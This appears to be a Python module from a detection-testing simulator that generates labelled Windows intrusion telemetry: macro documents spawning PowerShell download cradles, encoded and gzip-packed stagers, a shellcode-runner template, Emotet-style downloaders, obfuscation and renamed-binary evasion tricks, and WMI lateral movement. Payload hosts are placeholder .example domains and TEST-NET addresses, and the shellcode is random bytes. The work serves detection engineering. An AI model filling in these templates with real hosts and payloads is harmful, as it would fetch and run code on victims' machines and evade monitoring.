"""Attack chains on simulated Windows hosts, each event labelled with what it shows.

    doc = KINDS["office_encoded_powershell"].build(tl, rng, host, ts, "office_encoded_powershell-001",
                                                   peers)

Every chain starts the way 2018's commodity intrusions did: a macro document opened from
Outlook or the Downloads folder (Office -> cmd -> PowerShell, Office -> encoded PowerShell,
Office -> WMI -> PowerShell, Office -> wscript/mshta), a JScript attachment, an Emotet-style
infection (macro -> PowerShell downloader trying a list of URLs -> a dropped exe, or a DLL
started by rundll32/regsvr32), or a WMI command run on a neighbour. Each event's
:class:`Label` says which ATT&CK techniques its own fields show (an encoded command shows
PowerShell and obfuscation, the script block it decodes to shows the download). A PowerShell
text also shows what its payload does once the analyzer has recovered it: an encoded downloader
shows the download (T1105) and its family (``downloader``, ``emotet``, ``shellcode-injector``),
as the family rules over the recovered text find them (rules/powershell). The truth file counts
them. Payloads point at ``.example`` names and TEST-NET addresses, and the "shellcode"
is random bytes: nothing here works against anything.

A chain that opens a macro document returns a :class:`MacroDocument` naming the file the Office
process opened (its command line has the path) and the command the macro starts: the place
where an Office document writer can make the document itself.
"""

from __future__ import annotations

import base64
import gzip
import random
from collections.abc import Callable
from dataclasses import dataclass

from threatscope.simulate.hosts import (
    EPOCH0_MS,
    OFFICE_DIR,
    PE_INFO,
    POWERSHELL_EXE,
    SYSTEM32,
    Host,
    Label,
    Proc,
    Timeline,
    image_hashes,
)

# where payloads come from: reserved names and TEST-NET addresses
_WORDS = ["print", "studio", "garden", "dental", "travel", "photo", "design", "motors", "legal",
          "bakery", "kinder", "solar", "media", "clinic", "outdoor", "yoga", "tiles", "cargo"]
_TEST_NETS = ("192.0.2.", "198.51.100.", "203.0.113.")
_LURES = {"WINWORD.EXE": ["Invoice_{n}.doc", "PAYMENT-{n}.doc", "Order_{n}.doc",
                          "Scan_{n}.doc", "Rechnung_{n}.doc", "Shipping_Details_{n}.doc"],
          "EXCEL.EXE": ["Statement_{n}.xls", "Remittance_{n}.xls", "Price_List_{n}.xls"],
          "POWERPNT.EXE": ["Presentation_{n}.ppt"]}


@dataclass
class MacroDocument:
    """A document whose macro starts a chain: ``path`` is what the Office process opened."""

    name: str
    path: str
    application: str  # WINWORD.EXE | EXCEL.EXE | POWERPNT.EXE
    org_id: str
    host: str
    chain: str
    family: str | None
    runs: str = ""  # the command line the macro starts (or has WMI start)
    via: str = "shell"  # how the macro starts it: 'shell' (WScript.Shell) | 'wmi' (Win32_Process)
    opened: int = 0  # when the Office process opened it (epoch ms)


@dataclass(frozen=True)
class ChainKind:
    counts: dict[str, int]  # chains per quarter at scale 1
    build: Callable[..., MacroDocument | None]
    needs: Callable[[Host], bool] = lambda h: True
    family: str | None = None
    distinct_hosts: bool = False  # at most one chain of this kind per host


# -- payload text -----------------------------------------------------------------------------
def _site(rng: random.Random) -> tuple[str, str]:
    """(a compromised-looking site name, its address)."""
    name = f"{rng.choice(_WORDS)}{rng.choice(['-', ''])}{rng.choice(_WORDS)}.example"
    return name, f"{rng.choice(_TEST_NETS)}{rng.randrange(2, 250)}"


def _name(rng: random.Random, n: int = 6) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))


def _var(rng: random.Random) -> str:
    return "$" + _name(rng, 1).upper() + _name(rng, rng.randrange(4, 9))


def _mixcase(rng: random.Random, s: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _ps_flags(rng: random.Random) -> str:
    return rng.choice(["-nop -w hidden", "-NoP -NonI -W Hidden -Exec Bypass",
                       "-windowstyle hidden -noprofile", "-w 1 -nop -ep bypass",
                       "-NoProfile -WindowStyle Hidden"])


def _enc_flag(rng: random.Random) -> str:
    # the abbreviations and dashes PowerShell accepts for -EncodedCommand
    return rng.choice(["-enc", "-e", "-EncodedCommand", "-ec", "/enc", "-en", "-encod",
                       "-EncodedC", "\u2013e"])


def encode(script: str) -> str:
    """PowerShell's -EncodedCommand form: Base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _cradle(rng: random.Random, url: str) -> str:
    """Download a script and run it in memory."""
    return rng.choice([
        f"IEX (New-Object Net.WebClient).DownloadString('{url}')",
        f"iex ((new-object net.webclient).downloadstring('{url}'))",
        f"(New-Object System.Net.WebClient).DownloadString('{url}') | IEX",
        f"IEX(iwr '{url}' -UseBasicParsing)",
    ])


def _drop_run(rng: random.Random, url: str, path_expr: str) -> str:
    """Download a file to disk and start it."""
    p = _var(rng)
    return rng.choice([
        f"{p}={path_expr};(New-Object Net.WebClient).DownloadFile('{url}',{p});Start-Process {p}",
        f"{p}={path_expr};Invoke-WebRequest '{url}' -OutFile {p};& {p}",
        f"{p}={path_expr};Start-BitsTransfer -Source '{url}' -Destination {p};Invoke-Item {p}",
    ])


def _shellcode_runner(rng: random.Random) -> str:
    """The shape of a PowerShell shellcode runner, with random bytes where the code would be."""
    k, w, b, m = _var(rng), _var(rng), _var(rng), _var(rng)
    data = ",".join(f"0x{rng.getrandbits(8):02x}" for _ in range(rng.randrange(180, 320)))
    return (f"{k}='[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr a,"
            "uint s,uint t,uint p);[DllImport(\"kernel32.dll\")]public static extern IntPtr "
            "CreateThread(IntPtr a,uint s,IntPtr f,IntPtr p,uint c,IntPtr i);[DllImport("
            "\"msvcrt.dll\")]public static extern IntPtr memset(IntPtr d,uint v,uint n);';"
            f"{w}=Add-Type -MemberDefinition {k} -Name W32 -Namespace W{_name(rng, 4)} -PassThru;"
            f"[Byte[]]{b}={data};{m}={w}::VirtualAlloc(0,0x1000,0x3000,0x40);"
            f"for($i=0;$i -lt {b}.Length;$i++){{{w}::memset([IntPtr]({m}.ToInt64()+$i),{b}[$i],1)"
            f"|Out-Null}};{w}::CreateThread(0,0,{m},0,0,0)|Out-Null;Start-Sleep 60")


def _stager(inner: str) -> str:
    """A script that unpacks ``inner`` (gzip + Base64) and runs it."""
    packed = base64.b64encode(gzip.compress(inner.encode(), mtime=0)).decode()
    return (f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));"
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();")


def _emotet_script(rng: random.Random, out_expr: str, start: str
                   ) -> tuple[str, list[str], list[str]]:
    """An Emotet-style downloader: a list of URLs split apart, each tried until a download
    succeeds, the file saved under the profile and started. Returns (script, site names,
    URLs)."""
    sites = [_site(rng)[0] for _ in range(rng.randrange(3, 6))]
    url_list = [f"http://{s}/{rng.choice(['wp-content', 'wp-admin', 'images', 'css'])}/"
                f"{_name(rng, rng.randrange(3, 8))}/" for s in sites]
    urls = "@".join(url_list)
    lst, out, wc, u = _var(rng), _var(rng), _var(rng), _var(rng)
    split, dl = _mixcase(rng, "Split"), _mixcase(rng, "DownloadFile")
    script = (f"{_var(rng)}='{_name(rng, 9)}';{lst}='{urls}'.{split}('@');{out}={out_expr};"
              f"{wc}=&('New-Ob'+'ject') Net.WebClient;foreach({u} in {lst}){{try{{"
              f"{wc}.{dl}({u},{out});If((Get-Item {out}).Length -ge {rng.randrange(30, 90)}000)"
              f"{{{start.format(out=out)};break}}}}catch{{}}}}")
    return script, sites, url_list


def _payload(rng: random.Random) -> tuple[str, str, str]:
    """A second stage for an encoded command: (script, kind, site address)."""
    site, ip = _site(rng)
    kind = rng.choice(["cradle", "cradle", "drop", "stager"])
    if kind == "cradle":
        return _cradle(rng, f"http://{site}/{_name(rng, 5)}.ps1"), kind, ip
    if kind == "drop":
        path = f"$env:TEMP+'\\{_name(rng, 7)}.exe'"
        return _drop_run(rng, f"http://{site}/{_name(rng, 5)}.exe", path), kind, ip
    return _stager(_shellcode_runner(rng)), kind, ip


# -- steps shared by chains -----------------------------------------------------------------
_EXEC_2ND = ("T1059.001", "T1105")  # a script block that downloads and runs
# what the family rules over the analyzer's recovered text (rules/powershell) find in a payload
# of each kind: (techniques besides running PowerShell, family)
REVEALS: dict[str, tuple[tuple[str, ...], str]] = {
    "cradle": (("T1105",), "downloader"), "drop": (("T1105",), "downloader"),
    "stager": (("T1055",), "shellcode-injector"), "emotet": (("T1105",), "emotet")}


class _Chain:
    """A chain being built: its id, host, clock and the Office document it started from."""

    def __init__(self, tl: Timeline, rng: random.Random, host: Host, ts: int, chain: str,
                 family: str | None = None):
        self.tl, self.rng, self.host, self.ts, self.id = tl, rng, host, ts, chain
        self.family = family
        self.doc: MacroDocument | None = None

    def tick(self, lo: int = 300, hi: int = 4000) -> int:
        self.ts += lo + self.rng.randrange(hi - lo)
        return self.ts

    def label(self, step: str, *techniques: str, family: str | None = None,
              evades: tuple[str, ...] = (), reveals: str | None = None) -> Label:
        """``reveals``: the kind of payload (REVEALS) the event's PowerShell text holds."""
        if reveals is not None:
            more, family = REVEALS[reveals]
            techniques += tuple(t for t in more if t not in techniques)
            if evades:  # an event the rules cannot see hides its payload too
                evades += tuple(t for t in more if t not in evades)
        return Label(self.id, step, tuple(techniques), family, evades)

    def spawn(self, parent: Proc, image: str, cmdline: str, step: str, *techniques: str,
              **kw) -> Proc:
        label = self.label(step, *techniques, family=kw.pop("family", None),
                           evades=kw.pop("evades", ()), reveals=kw.pop("reveals", None))
        return self.tl.spawn(self.host, parent, image, cmdline, self.tick(), label=label, **kw)

    def office(self, app: str | None = None, from_outlook: bool | None = None) -> Proc:
        """The user opens the macro document (from Outlook's attachment cache or Downloads)."""
        rng, host = self.rng, self.host
        app = app or rng.choice(["WINWORD.EXE", "WINWORD.EXE", "EXCEL.EXE"])
        name = rng.choice(_LURES[app]).format(n=rng.randrange(10000, 99999))
        day = _day_of(self.ts)
        outlook = rng.random() < 0.6 if from_outlook is None else from_outlook
        if outlook:
            parent = self.tl.outlook(host, day)
            folder = (f"{host.profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                      f"Content.Outlook\\{_name(rng, 8).upper()}")
        else:
            parent = self.tl.session(host, day)
            folder = f"{host.profile}\\Downloads"
        path = f"{folder}\\{name}"
        self.ts = max(self.ts, parent.started + 5000)
        args = f'/n "{path}" /o ""' if app == "WINWORD.EXE" else f'"{path}"'
        proc = self.spawn(parent, f"{OFFICE_DIR}\\{app}", f'"{OFFICE_DIR}\\{app}" {args}',
                          "open document", cwd=f"{folder}\\")
        self.doc = MacroDocument(name, path, app, host.org_id, host.short, self.id, self.family,
                                 opened=self.ts)
        return proc

    def macro_runs(self, cmdline: str, via: str = "shell") -> None:
        if self.doc is not None and not self.doc.runs:
            self.doc.runs, self.doc.via = cmdline, via

    def second_stage(self, ps: Proc, script: str, kind: str, ip: str) -> None:
        """What the PowerShell process does next: its script block(s), the connection, and
        for a dropper the file it saves and starts."""
        host, tl = self.host, self.tl
        if kind == "stager":
            tl.script(host, ps, script, self.tick(), label=self.label(
                "script block: unpack and run", "T1059.001", "T1027", reveals=kind))
            tl.script(host, ps, script_inner(script), self.tick(), label=self.label(
                "script block: shellcode runner", "T1059.001", "T1055", reveals=kind))
            tl.connect(host, ps, ip, 443, self.tick(), label=self.label("connection"))
            return
        tl.script(host, ps, script, self.tick(), label=self.label(
            "script block: download and run", *_EXEC_2ND, reveals=kind))
        if kind == "drop":
            self.drop(ps, ip)
        else:
            tl.connect(host, ps, ip, 80, self.tick(), label=self.label("connection"))

    def drop(self, proc: Proc, ip: str, site: str = "") -> None:
        """``proc`` downloads a program into Temp and starts it."""
        host, tl = self.host, self.tl
        tl.connect(host, proc, ip, 80, self.tick(), site, label=self.label("connection"))
        name = f"{_name(self.rng, 7)}.exe"
        path = f"{host.profile}\\AppData\\Local\\Temp\\{name}"
        tl.file(host, proc, path, self.tick(), label=self.label("file written"))
        self.spawn(proc, path, f'"{path}"', "dropped program", cwd=f"{host.profile}\\",
                   pe=("?", "?", "?", "?"), hashes=image_hashes(name, self.id))


def _day_of(ts: int) -> int:
    return (ts - EPOCH0_MS) // 86_400_000


def script_inner(stager: str) -> str:
    """The script a stager unpacks (what PowerShell logs when the stager runs it)."""
    packed = stager.split("FromBase64String('", 1)[1].split("'", 1)[0]
    return gzip.decompress(base64.b64decode(packed)).decode()


def _powershell_line(rng: random.Random, args: str) -> str:
    exe = rng.choice(["powershell", "powershell.exe", POWERSHELL_EXE, f'"{POWERSHELL_EXE}"'])
    return f"{exe} {args}"


# -- the chains ---------------------------------------------------------------------------------
def office_cmd_powershell(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """Office -> cmd /c powershell -w hidden ... IEX DownloadString(...)."""
    c = _Chain(tl, rng, host, ts, chain)
    office = c.office()
    site, ip = _site(rng)
    script = _cradle(rng, f"http://{site}/{_name(rng, 5)}.ps1").replace('"', "'")
    flags = _ps_flags(rng)
    word = rng.choice(["powershell", "p^owe^rshe^ll", "po^wer^she^ll.exe"])
    cmd_line = f'cmd.exe /c {word} {flags} -c "{script}"'
    c.macro_runs(cmd_line)
    cmd = c.spawn(office, f"{SYSTEM32}\\cmd.exe", cmd_line, "shell", "T1204.002", "T1059.003",
                  reveals="cradle")
    ps = c.spawn(cmd, POWERSHELL_EXE, f'powershell  {flags} -c "{script}"', "powershell",
                 "T1059.001", "T1105", reveals="cradle")
    c.second_stage(ps, script, "cradle", ip)
    return c.doc


def office_encoded_powershell(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """Office -> powershell -w hidden -enc <Base64>."""
    c = _Chain(tl, rng, host, ts, chain)
    office = c.office(rng.choice(["WINWORD.EXE", "WINWORD.EXE", "EXCEL.EXE", "POWERPNT.EXE"]))
    script, kind, ip = _payload(rng)
    line = _powershell_line(rng, f"{_ps_flags(rng)} {_enc_flag(rng)} {encode(script)}")
    c.macro_runs(line)
    ps = c.spawn(office, POWERSHELL_EXE, line, "encoded powershell", "T1204.002", "T1059.001",
                 "T1027", reveals=kind)
    c.second_stage(ps, script, kind, ip)
    return c.doc


def office_wmi_powershell(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """Office -> (wmic process call create | the macro's own WMI call) -> WmiPrvSE ->
    powershell -enc: the payload's parent is the WMI provider host, not Word."""
    c = _Chain(tl, rng, host, ts, chain)
    office = c.office()
    script, kind, ip = _payload(rng)
    line = f"powershell.exe {_ps_flags(rng)} {_enc_flag(rng)} {encode(script)}"
    if rng.random() < 0.5:
        wmic_line = f'wmic.exe process call create "{line}"'
        c.macro_runs(wmic_line)
        c.spawn(office, f"{SYSTEM32}\\wbem\\WMIC.exe", wmic_line, "wmic", "T1204.002", "T1047",
                reveals=kind)
    else:
        c.macro_runs(line, via="wmi")  # Win32_Process.Create from VBA: no wmic.exe in between
    ps = c.spawn(host.wmiprvse, POWERSHELL_EXE, line, "powershell from WMI", "T1047",
                 "T1059.001", "T1027", reveals=kind, user=office.user, sid=office.user_sid,
                 integrity="Medium", cwd=f"{SYSTEM32}\\")
    c.second_stage(ps, script, kind, ip)
    return c.doc


def office_vbscript(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """Office -> wscript <a .vbs the macro saved> -> rundll32 <a DLL in Temp>."""
    c = _Chain(tl, rng, host, ts, chain)
    office = c.office()
    vbs = rng.choice([f"{host.profile}\\AppData\\Roaming\\Microsoft\\Templates\\{_name(rng)}.vbs",
                      f"C:\\Users\\Public\\{_name(rng)}.vbs",
                      f"{host.profile}\\AppData\\Local\\Temp\\{_name(rng)}.vbe"])
    host_exe = rng.choice(["wscript.exe", "cscript.exe"])
    line = f'{host_exe} //nologo "{vbs}"' if host_exe == "cscript.exe" else f'{host_exe} "{vbs}"'
    c.macro_runs(line)
    wsh = c.spawn(office, f"{SYSTEM32}\\{host_exe}", line, "script host", "T1204.002",
                  "T1059.005")
    site, ip = _site(rng)
    tl.connect(host, wsh, ip, 80, c.tick(), site, label=c.label("connection"))
    dll = f"{host.profile}\\AppData\\Local\\Temp\\{_name(rng, 5)}.dll"
    tl.file(host, wsh, dll, c.tick(), label=c.label("file written"))
    export = rng.choice(["DllRegisterServer", "#1", "Start", "DllInstall"])
    c.spawn(wsh, f"{SYSTEM32}\\rundll32.exe", f'rundll32.exe "{dll}",{export}', "rundll32",
            "T1218.011")
    return c.doc


def js_attachment(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """A .js opened straight out of a ZIP attachment -> PowerShell downloads and starts an exe."""
    c = _Chain(tl, rng, host, ts, chain)
    explorer = tl.session(host, _day_of(ts))
    c.ts = max(c.ts, explorer.started + 5000)
    base = rng.choice(["Invoice", "Scan", "Document", "Payment", "Fax", "Parcel"])
    name = f"{base}_{rng.randrange(1000, 9999)}"
    js = f"{host.profile}\\AppData\\Local\\Temp\\Temp1_{name}.zip\\{name}.js"
    wsh = c.spawn(explorer, f"{SYSTEM32}\\WScript.exe", f'"{SYSTEM32}\\WScript.exe" "{js}"',
                  "script host", "T1059.007", cwd=f"{host.profile}\\Downloads\\")
    site, ip = _site(rng)
    if rng.random() < 0.6:  # the script downloads and starts the exe itself (XMLHTTP, Run)
        c.drop(wsh, ip, site)
        return None
    script = _drop_run(rng, f"http://{site}/{_name(rng, 5)}.exe",
                       f"$env:TEMP+'\\{_name(rng, 6)}.exe'")
    ps = c.spawn(wsh, POWERSHELL_EXE, f'powershell.exe {_ps_flags(rng)} -c "{script}"',
                 "powershell", "T1059.001", "T1105", reveals="drop")
    c.second_stage(ps, script, "drop", ip)
    return None


def mshta(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """Office -> mshta http://.../x.hta, or an .hta from Downloads -> PowerShell cradle."""
    c = _Chain(tl, rng, host, ts, chain)
    site, ip = _site(rng)
    if rng.random() < 0.6:
        parent = c.office()
        line = f"mshta.exe http://{site}/{_name(rng, 5)}.hta"
        c.macro_runs(line)
        hta = c.spawn(parent, f"{SYSTEM32}\\mshta.exe", line, "mshta", "T1204.002", "T1218.005")
    else:
        parent = tl.session(host, _day_of(ts))
        c.ts = max(c.ts, parent.started + 5000)
        path = f"{host.profile}\\Downloads\\{rng.choice(['invoice', 'statement', 'update'])}.hta"
        hta = c.spawn(parent, f"{SYSTEM32}\\mshta.exe", f'"{SYSTEM32}\\mshta.exe" "{path}" ',
                      "mshta", "T1218.005")
    if rng.random() < 0.5:  # the application's own script fetches and starts the exe
        c.drop(hta, ip, site)
        return c.doc
    script = _cradle(rng, f"http://{site}/{_name(rng, 5)}.ps1").replace('"', "'")
    ps = c.spawn(hta, POWERSHELL_EXE, f'powershell.exe {_ps_flags(rng)} -c "{script}"',
                 "powershell", "T1059.001", "T1105", reveals="cradle")
    c.second_stage(ps, script, "cradle", ip)
    return c.doc


def wmi_lateral(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """An intruder with an admin password runs a command on a neighbour with wmic /node:."""
    c = _Chain(tl, rng, host, ts, chain)
    target = rng.choice(peers)
    explorer = tl.session(host, _day_of(ts))
    c.ts = max(c.ts, explorer.started + 5000)
    shell = c.spawn(explorer, f"{SYSTEM32}\\cmd.exe", f'"{SYSTEM32}\\cmd.exe" ', "shell")
    admin = f"adm-{host.user}"
    command = rng.choice(["whoami /all", "ipconfig /all", "net localgroup administrators",
                          "tasklist /v"])
    out = f"C:\\Windows\\Temp\\{_name(rng, 4)}.txt"
    remote = f"cmd.exe /c {command} > {out} 2>&1"
    c.spawn(shell, f"{SYSTEM32}\\wbem\\WMIC.exe",
            f'wmic /node:"{target.ip}" /user:"{host.domain}\\{admin}" /password:"'
            f'{_name(rng, 3).capitalize()}{rng.randrange(1000, 9999)}!" process call create '
            f'"{remote}"', "wmic", "T1047")
    sid = f"{host.user_sid.rsplit('-', 1)[0]}-{rng.randrange(1100, 1900)}"
    # the command runs on the target, under WMI
    t = _Chain(tl, rng, target, c.tick(800, 2500), chain)
    cmd = t.spawn(target.wmiprvse, f"{SYSTEM32}\\cmd.exe", remote, "shell from WMI", "T1047",
                  "T1059.003", user=f"{host.domain}\\{admin}", sid=sid, integrity="High",
                  cwd=f"{SYSTEM32}\\")
    exe = command.split(" ")[0]
    t.spawn(cmd, f"{SYSTEM32}\\{exe}.exe", command, "discovery")
    return None


def emotet(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """An Emotet-style infection: a macro document from an e-mail starts the PowerShell
    downloader, which saves the loader and starts it (an exe, or a DLL via rundll32 or
    regsvr32)."""
    c = _Chain(tl, rng, host, ts, chain, family="emotet")
    variant = rng.choice(["exe", "exe", "rundll32", "regsvr32"])
    office = c.office("EXCEL.EXE" if variant == "regsvr32" else "WINWORD.EXE", from_outlook=True)
    folder = _name(rng, rng.randrange(5, 9)).capitalize()
    if variant == "exe":
        n = str(rng.randrange(100, 999))
        out_expr, start = f"$env:userprofile+'\\{n}.exe'", "Invoke-Item {out}"
        saved = f"{host.profile}\\{n}.exe"
    else:
        f = _name(rng, rng.randrange(5, 9))
        ext = rng.choice(["dll", "dll", _name(rng, 3)])
        out_expr = f"$env:localappdata+'\\{folder}\\{f}.{ext}'"
        saved = f"{host.profile}\\AppData\\Local\\{folder}\\{f}.{ext}"
        start = ("Start-Process rundll32.exe -ArgumentList ('\"'+{out}+'\",Control_RunDLL')"
                 if variant == "rundll32" else
                 "Start-Process regsvr32.exe -ArgumentList ('/s \"'+{out}+'\"')")
    script, sites, urls = _emotet_script(rng, out_expr, start)
    b64 = encode(script)
    if variant == "exe":  # 2018: cmd with carets in between
        line = f"cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -e {b64}"
        c.macro_runs(line)
        cmd = c.spawn(office, f"{SYSTEM32}\\cmd.exe", line, "shell", "T1204.002", "T1059.003",
                      reveals="emotet")
        ps = c.spawn(cmd, POWERSHELL_EXE, f"powershell  -nop -w hidden -e {b64}",
                     "encoded powershell", "T1059.001", "T1027", reveals="emotet")
    else:
        line = f"powershell -w hidden {_enc_flag(rng)} {b64}"
        c.macro_runs(line)
        ps = c.spawn(office, POWERSHELL_EXE, line, "encoded powershell", "T1204.002",
                     "T1059.001", "T1027", reveals="emotet")
    tl.script(host, ps, script, c.tick(), label=c.label(
        "script block: downloader", *_EXEC_2ND, reveals="emotet"))
    ip = f"{rng.choice(_TEST_NETS)}{rng.randrange(2, 250)}"
    dl_ts = c.tick()
    tl.connect(host, ps, ip, 80, dl_ts, sites[0], label=c.label("connection"))
    tl.file(host, ps, saved, c.tick(), label=c.label("file written"))
    loader = image_hashes(saved.rsplit("\\", 1)[-1], c.id)
    if variant == "exe":
        first = c.spawn(ps, saved, f'"{saved}" ', "dropped program", cwd=f"{host.profile}\\",
                        pe=("?", "?", "?", "?"), hashes=loader)
        persist = f"{host.profile}\\AppData\\Local\\{folder.lower()}\\{folder.lower()}.exe"
        bot = c.spawn(first, persist, f'"{persist}"', "loader copy", pe=("?", "?", "?", "?"),
                      hashes=loader)
    elif variant == "rundll32":
        bot = c.spawn(ps, f"{SYSTEM32}\\rundll32.exe",
                      f'"{SYSTEM32}\\rundll32.exe" "{saved}",Control_RunDLL', "rundll32",
                      "T1218.011", family="emotet")
    else:
        bot = c.spawn(ps, f"{SYSTEM32}\\regsvr32.exe", f'regsvr32.exe /s "{saved}"', "regsvr32",
                      "T1218.010")
    c2_ip = f"{rng.choice(_TEST_NETS)}{rng.randrange(2, 250)}"
    c2_port = rng.choice([443, 8080, 7080])
    c2_ts = c.tick(20_000, 90_000)
    tl.connect(host, bot, c2_ip, c2_port, c2_ts, label=c.label("connection"))
    # the chain's indicators, for the threat-intel feeds (``intel``); no draw
    tl.iocs.append({"family": "emotet", "host": host.name, "urls": urls,
                    "download": {"ip": ip, "port": 80, "site": sites[0], "ts_ms": dl_ts},
                    "c2": {"ip": c2_ip, "port": c2_port, "ts_ms": c2_ts}})
    return c.doc


def renamed_powershell(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
    """Office -> a copy of powershell.exe under another name in Temp, on a host that logs
    Security 4688: no original file name, so the process rules cannot tell it is PowerShell
    (deliberately hard); its script block still shows the download."""
    c = _Chain(tl, rng, host, ts, chain)
    office = c.office("WINWORD.EXE")
    site, ip = _site(rng)
    script = _cradle(rng, f"http://{site}/{_name(rng, 5)}.ps1")
    copy = f"{host.profile}\\AppData\\Local\\Temp\\{rng.choice(['svchost', 'winupd', 'msoia'])}.exe"
    line = f'"{copy}" {_ps_flags(rng)} {_enc_flag(rng)} {encode(script)}'
    c.macro_runs(line)
    hidden = ("T1204.002", "T1059.001", "T1027")
    ps = c.spawn(office, copy, line, "renamed powershell", *hidden, evades=hidden,
                 reveals="cradle", pe=PE_INFO["powershell.exe"])
    c.second_stage(ps, script, "cradle", ip)
    return c.doc


KINDS: dict[str, ChainKind] = {
    "office_cmd_powershell": ChainKind({"2018Q1": 3, "2018Q2": 14}, office_cmd_powershell),
    "office_encoded_powershell": ChainKind({"2018Q1": 2, "2018Q2": 22},
                                           office_encoded_powershell),
    "office_wmi_powershell": ChainKind({"2018Q1": 2, "2018Q2": 6}, office_wmi_powershell),
    "office_vbscript": ChainKind({"2018Q1": 7, "2018Q2": 2}, office_vbscript),
    "js_attachment": ChainKind({"2018Q1": 12, "2018Q2": 3}, js_attachment),
    "mshta": ChainKind({"2018Q1": 5, "2018Q2": 3}, mshta),
    "wmi_lateral": ChainKind({"2018Q1": 1, "2018Q2": 2}, wmi_lateral),
    # every infected host logs script blocks, so that each infection is recognisable
    "emotet": ChainKind({"2018Q1": 1, "2018Q2": 8}, emotet, lambda h: h.ps_logging, "emotet",
                        distinct_hosts=True),
    "renamed_powershell": ChainKind({"2018Q1": 0, "2018Q2": 2}, renamed_powershell,
                                    lambda h: h.telemetry == "security" and h.ps_logging),
}
